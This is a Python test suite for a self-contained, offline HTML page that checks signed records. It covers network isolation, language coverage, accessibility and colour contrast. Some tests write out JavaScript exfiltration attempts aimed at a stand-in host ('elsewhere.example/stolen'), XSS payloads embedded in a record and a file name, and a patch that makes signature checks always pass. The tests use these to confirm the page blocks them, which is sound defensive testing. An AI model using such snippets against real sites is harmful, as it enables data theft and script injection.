"""The page itself: one file that loads nothing, sends nothing, and says what it cannot do."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from ownerapp.domain.record import CONTEXTS
from ownerapp.i18n import available_languages, bcp47, translate_in
from ownerapp.presentation import checker
from ownerapp.presentation.checker_words import checker_words
from ownerapp.resources import resource_path
from ownerapp.ui.theme import DARK, LIGHT
from tests.support import golden, records
from tests.support.browser import Browser, as_text
from tests.support.checker_page import CheckerPage

KEY = records.known_key().fingerprint
VALID = (golden.FOLDER / "valid.json").read_bytes()
PDF = (golden.FOLDER / "valid.pdf").read_bytes()
PAGE = (golden.FOLDER / "page.pdf").read_bytes()
"""Sealed, and without a record."""
ELSEWHERE = "http://elsewhere.example"


@pytest.fixture
def page(browser: Browser) -> CheckerPage:
    """The page as it is when it is opened."""
    opened = CheckerPage(browser)
    opened.open()
    return opened


# ------------------------------------------------------------------------------ the file


def test_the_page_is_what_its_sources_make(tmp_path: Path) -> None:
    again = "run: python -m ownerapp.presentation.checker --write"

    assert checker.main(["--check"]) == 0, again
    path = tmp_path / "made" / "checker.html"
    assert checker.main(["--check"], path) == 1
    assert checker.main(["--write"], path) == 0
    assert path.read_bytes() == checker.checker_path().read_bytes()
    path.write_text("<!DOCTYPE html>", encoding="utf-8")
    assert checker.main(["--check"], path) == 1


def test_the_page_is_one_file_that_names_no_other() -> None:
    text = checker.checker_path().read_text(encoding="utf-8")
    markup = re.sub(r"<(script|style)>.*?</\1>", "", text, flags=re.DOTALL)

    assert text.count("<script") == text.count("</script>") == 1
    assert text.count("<style") == text.count("</style>") == 1
    assert re.findall(r"\b(?:src|href|action|on[a-z]+)=", markup) == []
    assert re.findall(r"XMLHttpRequest|WebSocket|innerHTML|outerHTML", text) == []
    assert re.findall(r"\b(?:fetch|import|eval|Function)\(", text) == []
    # The only addresses are names that stand in records.
    assert set(re.findall(r"https?://[a-z][^\s\"']*", text)) == set(CONTEXTS)


def test_every_language_has_every_word() -> None:
    text = checker.checker_path().read_text(encoding="utf-8")
    languages = {}
    for tag in available_languages():
        with translate_in(tag):
            languages[tag] = checker_words()
        assert f'"{bcp47(tag)}": {{"language-name":' in text

    for tag, words in languages.items():
        assert words.keys() == languages["en"].keys()
        assert [key for key, word in words.items() if not word] == [], tag
        for key, word in words.items():
            assert re.findall(r"\{\w+\}", word) == re.findall(r"\{\w+\}", languages["en"][key])


def test_the_page_asks_for_no_word_that_it_lacks() -> None:
    sources = "".join(
        path.read_text(encoding="utf-8")
        for path in resource_path("checker", "source").iterdir()
        if path.suffix in {".js", ".html"}
    )
    asked = {
        *re.findall(r'data-say="([^"]+)"', sources),
        *re.findall(r'say\("([^"]+)"', sources),
    }

    assert len(asked) > 15
    assert asked - checker_words().keys() == set()


def test_the_page_looks_like_the_program() -> None:
    style = resource_path("checker", "source", "style.css").read_text(encoding="utf-8")
    light, dark = re.findall(r":root \{\n(.*?)\n *\}", style, re.DOTALL)[:2]
    names = {"window", "surface", "ink", "muted", "line", "accent", "ok"}

    for block, tokens in ((light, LIGHT), (dark, DARK)):
        said = dict(re.findall(r"--(\w+): (#[0-9a-f]{6})", block))
        wanted = {name: getattr(tokens, name).lower() for name in names}
        assert said == {**wanted, "unknown": tokens.warn.lower(), "failed": tokens.stop.lower()}


@pytest.mark.parametrize(
    "shape",
    [
        {"type": "string", "format": "uri"},
        {"type": "object", "properties": {"a": {"const": 1}}},
        {"type": "object", "properties": {}, "additionalProperties": True},
        {"type": "array", "prefixItems": [{"uniqueItems": True}]},
    ],
)
def test_a_schema_that_the_page_could_not_check_is_refused(shape: dict[str, Any]) -> None:
    with pytest.raises(checker.UnknownShapeError):
        checker.shape_of(shape)


# --------------------------------------------------------------------------- no network


def test_checking_asks_nothing_of_any_network(page: CheckerPage) -> None:
    page.browser.requests()
    page.open()
    page.hand_over([(VALID, KEY), (PDF, KEY), (hostile(), KEY)])

    assert set(page.browser.requests()) == {checker.checker_path().as_uri()}
    assert not any("elsewhere" in asked for asked in page.browser.asked)


def test_a_page_without_the_policy_would_be_seen_asking(browser: Browser, tmp_path: Path) -> None:
    path = tmp_path / "other.html"
    path.write_text("<!DOCTYPE html><title>other</title>", encoding="utf-8")
    browser.open(path)
    browser.run("await fetch(args[0], { mode: 'no-cors' }).catch(() => null)", f"{ELSEWHERE}/seen")

    assert f"{ELSEWHERE}/seen" in browser.requests()
    assert any("elsewhere" in asked for asked in browser.asked)
    browser._proxy.asked.clear()


@pytest.mark.parametrize(
    "attempt",
    [
        "await fetch(args[0])",
        """await new Promise((done, fail) => {
             const image = new Image();
             image.onload = done;
             image.onerror = fail;
             image.src = args[0];
           })""",
        "new WebSocket(args[0].replace('http', 'ws'))",
        """const form = document.createElement("form");
           form.action = args[0];
           document.body.append(form);
           form.submit();
           await new Promise((go) => setTimeout(go, 50));
           throw new Error("refused")""",
        "document.body.innerHTML = '<b>x</b>'",
        """const script = document.createElement("script");
           script.text = "window.ran = 1";
           document.body.append(script);
           if (!window.ran) throw new Error("refused")""",
        "new Worker(args[0])",
        "if (!navigator.sendBeacon(args[0], 'x')) throw new Error('refused')",
    ],
)
def test_the_policy_stops_whatever_would_load_or_send(page: CheckerPage, attempt: str) -> None:
    said = page.do(
        f"try {{ {attempt}; return 'done'; }} catch (error) {{ return 'refused'; }}",
        f"{ELSEWHERE}/stolen",
    )

    # Beacons and sockets fail later: what counts is that nothing arrives.
    assert said == "refused" or "sendBeacon" in attempt or "WebSocket" in attempt
    assert not any("elsewhere" in asked for asked in page.browser.asked)


# ---------------------------------------------------------------------- hostile records


MARKUP = f"<img/src='{ELSEWHERE}/x'/onerror=document.title='stolen'></script><b>"


def hostile() -> bytes:
    """A record, honestly signed, that tries to be markup wherever it is shown."""
    document = json.loads(VALID)
    document["credentialSubject"]["car:logPosition"]["car:origin"] = MARKUP
    return records.sign_again(document)


def test_markup_in_a_record_is_shown_as_text(page: CheckerPage) -> None:
    page.do(
        'part("key").value = args[1];'
        'await reported(() => choose("open", args[0], "<img src=x onerror=alert(1)>.json"));'
        'part("details").open = true;',
        as_text(hostile()),
        KEY,
    )

    assert page.text("verdict") == "Valid"
    assert MARKUP in page.text("facts")
    assert page.text("file") == "<img src=x onerror=alert(1)>.json"
    found = page.do("return [document.title, document.images.length, document.scripts.length]")
    assert found == ["Check a record", 0, 1]


# ----------------------------------------------------------------- what a browser lacks


@pytest.mark.parametrize(
    "missing",
    [
        """const own = SubtleCrypto.prototype.importKey;
           SubtleCrypto.prototype.importKey = function (format, data, method, ...rest) {
             if (method.name === "Ed25519") throw new Error("NotSupportedError");
             return own.call(this, format, data, method, ...rest);
           };""",
        "SubtleCrypto.prototype.verify = async () => true;",
        "Object.defineProperty(Crypto.prototype, 'subtle', { value: undefined });",
        "Object.defineProperty(window, 'crypto', { value: undefined });",
    ],
    ids=["no such key", "a yes to everything", "no cryptography", "no crypto at all"],
)
def test_without_ed25519_nobody_can_tell(page: CheckerPage, missing: str) -> None:
    with page.browser.lacking(missing):
        page.open()
        valid, changed, stripped, pdf, sealed = page.answers(
            [
                (VALID, KEY),
                (VALID.replace(b"Charging", b"charging"), KEY),
                ((golden.FOLDER / "stripped-proof.json").read_bytes(), KEY),
                (PDF, KEY),
                (PAGE, KEY),
                (VALID, KEY),
            ]
        )[:5]
        said = page.text("checks")

    assert valid.verdict == changed.verdict == pdf.verdict == sealed.verdict == "cannot tell"
    assert valid.outcomes("unknown") == {"signature": "no-ed25519"}
    assert valid.outcomes("skipped")["key"] == "earlier-check"
    # What needs no cryptography is still said.
    assert stripped.verdict == "not valid"
    assert "This browser cannot check signatures of this kind" in said


@pytest.mark.parametrize(
    "missing",
    [
        "delete String.prototype.isWellFormed;",
        "delete window.TextDecoder;",
        "delete Array.prototype.at;",
    ],
)
def test_a_browser_that_is_too_old_in_another_way_never_says_valid_or_not(
    page: CheckerPage, missing: str
) -> None:
    with page.browser.lacking(missing):
        page.open()
        (found,) = page.answers([(VALID, KEY)])

    assert found.verdict == "cannot tell"


@pytest.mark.parametrize(
    "data",
    [b"VC1:6BFOXN", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0"],
    ids=["code", "picture", "photo"],
)
def test_another_kind_of_file_is_not_called_false(page: CheckerPage, data: bytes) -> None:
    (found,) = page.answers([(data, KEY)])

    assert found.verdict == "cannot tell"
    assert found.outcomes("unknown") == {"readable": "not-read-here"}
    assert "This page does not read this kind of file" in page.text("checks")


# ------------------------------------------------------------------------------- using it


def test_a_text_can_be_pasted_and_the_key_given_after(page: CheckerPage) -> None:
    first = page.do(
        'part("paste").value = args[0];return await reported(() => part("check").click());',
        VALID.decode(),
    )
    second = page.do(
        'part("key").value = args[0];'
        'return await reported(() => part("key").dispatchEvent(new Event("input")));',
        KEY,
    )

    assert (first["verdict"], second["verdict"]) == ("cannot tell", "valid")


def test_a_file_can_be_dropped_anywhere(page: CheckerPage) -> None:
    found = page.do(
        """
        const transfer = new DataTransfer();
        transfer.items.add(new File([bytesOf(args[0])], "dropped.json"));
        const how = { dataTransfer: transfer, bubbles: true, cancelable: true };
        const drop = new DragEvent("drop", how);
        const report = await reported(() => document.querySelector("h1").dispatchEvent(drop));
        return [report.verdict, drop.defaultPrevented];
        """,
        as_text(VALID),
    )

    assert found == ["cannot tell", True]
    assert page.text("file") == "dropped.json"


@pytest.mark.parametrize(
    ("make", "words"),
    [
        ("new File([], 'empty.json')", "There is nothing in it to check."),
        (
            "new File([new Uint8Array(32 * 1024 * 1024 + 1)], 'large.json')",
            "This file is larger than any record may be.",
        ),
    ],
)
def test_an_empty_and_a_huge_file_are_refused_with_words(
    page: CheckerPage, make: str, words: str
) -> None:
    page.do(
        "const transfer = new DataTransfer();"
        f"transfer.items.add({make});"
        'part("open").files = transfer.files;'
        'part("open").dispatchEvent(new Event("change"));'
    )

    assert page.text("refused") == words
    assert page.do('return part("result").hidden') is True


def test_a_history_that_does_not_hold_is_refused_with_words(page: CheckerPage) -> None:
    page.hand_over([(VALID, KEY)], history=b"{}")

    assert page.text("refused").startswith("The history of keys does not hold")
    assert page.do('return part("result").hidden') is True


def test_the_language_can_be_changed_while_a_result_is_shown(page: CheckerPage) -> None:
    page.hand_over([(VALID, KEY)])
    english = page.text("checks")
    report = page.do(
        'part("language").value = "zh-Hans";'
        'part("language").dispatchEvent(new Event("change"));'
        'return JSON.parse(part("result").dataset.report).verdict;'
    )

    assert report == "valid"
    assert page.text("verdict") == "有效"
    assert page.do("return [document.documentElement.lang, document.title]")[0] == "zh-Hans"
    assert page.text("checks") != english
    assert page.do('return part("language").selectedOptions[0].text') == "简体中文"


def test_the_verdict_comes_first_then_what_fails_then_what_is_unknown(page: CheckerPage) -> None:
    page.hand_over([((golden.FOLDER / "appended-bytes.pdf").read_bytes(), "")])
    classes = page.do('return [...part("checks").children].map((line) => line.className)')

    assert page.text("verdict") == "Not valid"
    assert classes == sorted(classes, key=["failed", "unknown", "ok"].index)
    assert set(classes) == {"failed", "unknown", "ok"}


def test_what_ended_and_whose_key_it_is_are_said(page: CheckerPage) -> None:
    page.hand_over([((golden.FOLDER / "consent-ended.json").read_bytes(), "")])
    notes = page.text("notes")

    assert "A consent in it ended on 28 November 2025" in notes
    assert f"If it is {KEY}, the record was made with the owner's key." in notes
    assert "The notice was not signed by its author" in notes


def test_every_control_has_a_name_and_the_result_is_announced(page: CheckerPage) -> None:
    page.hand_over([(VALID, KEY)])
    tree = page.browser.devtools("Accessibility.getFullAXTree")["nodes"]
    named = {
        (node["role"]["value"], node.get("name", {}).get("value", ""))
        for node in tree
        if not node["ignored"]
    }
    controls = {"button", "textbox", "combobox", "DisclosureTriangle", "heading", "region"}

    assert [role for role, name in named if role in controls and not name] == []
    assert {"combobox", "textbox", "status", "region", "main"} <= {role for role, _name in named}
    assert page.do("return document.activeElement.id") == "verdict"


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_can_be_read_in_light_and_dark(page: CheckerPage, scheme: str) -> None:
    page.browser.devtools(
        "Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}]
    )
    page.hand_over([((golden.FOLDER / "appended-bytes.pdf").read_bytes(), "")])
    pairs = page.do(
        """
        const colours = [];
        for (const element of document.querySelectorAll("main *")) {
          if (element.childElementCount > 0 || element.textContent.trim() === "") continue;
          if (element.checkVisibility() === false) continue;
          let behind = element;
          const ground = () => getComputedStyle(behind).backgroundColor;
          while (ground() === "rgba(0, 0, 0, 0)") behind = behind.parentElement;
          colours.push([getComputedStyle(element).color, ground()]);
        }
        return colours;
        """
    )
    page.browser.devtools("Emulation.setEmulatedMedia", features=[])

    assert len(pairs) > 15
    assert min(contrast(*map(levels, pair)) for pair in pairs) >= 4.5


def levels(colour: str) -> tuple[float, ...]:
    return tuple(float(number) / 255 for number in re.findall(r"\d+", colour)[:3])


def luminance(colour: tuple[float, ...]) -> float:
    """Return the relative luminance (WCAG 2.2)."""
    red, green, blue = (
        level / 12.92 if level <= 0.04045 else ((level + 0.055) / 1.055) ** 2.4 for level in colour
    )
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def contrast(one: tuple[float, ...], other: tuple[float, ...]) -> float:
    dark, light = sorted((luminance(one), luminance(other)))
    return (light + 0.05) / (dark + 0.05)


@pytest.mark.parametrize("width", [320, 1280])
def test_nothing_has_to_be_scrolled_sideways(page: CheckerPage, width: int) -> None:
    page.browser.devtools(
        "Emulation.setDeviceMetricsOverride",
        width=width, height=800, deviceScaleFactor=1, mobile=False,
    )  # fmt: skip
    page.hand_over([(hostile(), "")])
    page.do('part("details").open = true')
    wide = page.do("return [document.documentElement.scrollWidth, innerWidth]")
    page.browser.devtools("Emulation.clearDeviceMetricsOverride")

    assert wide[0] <= wide[1]
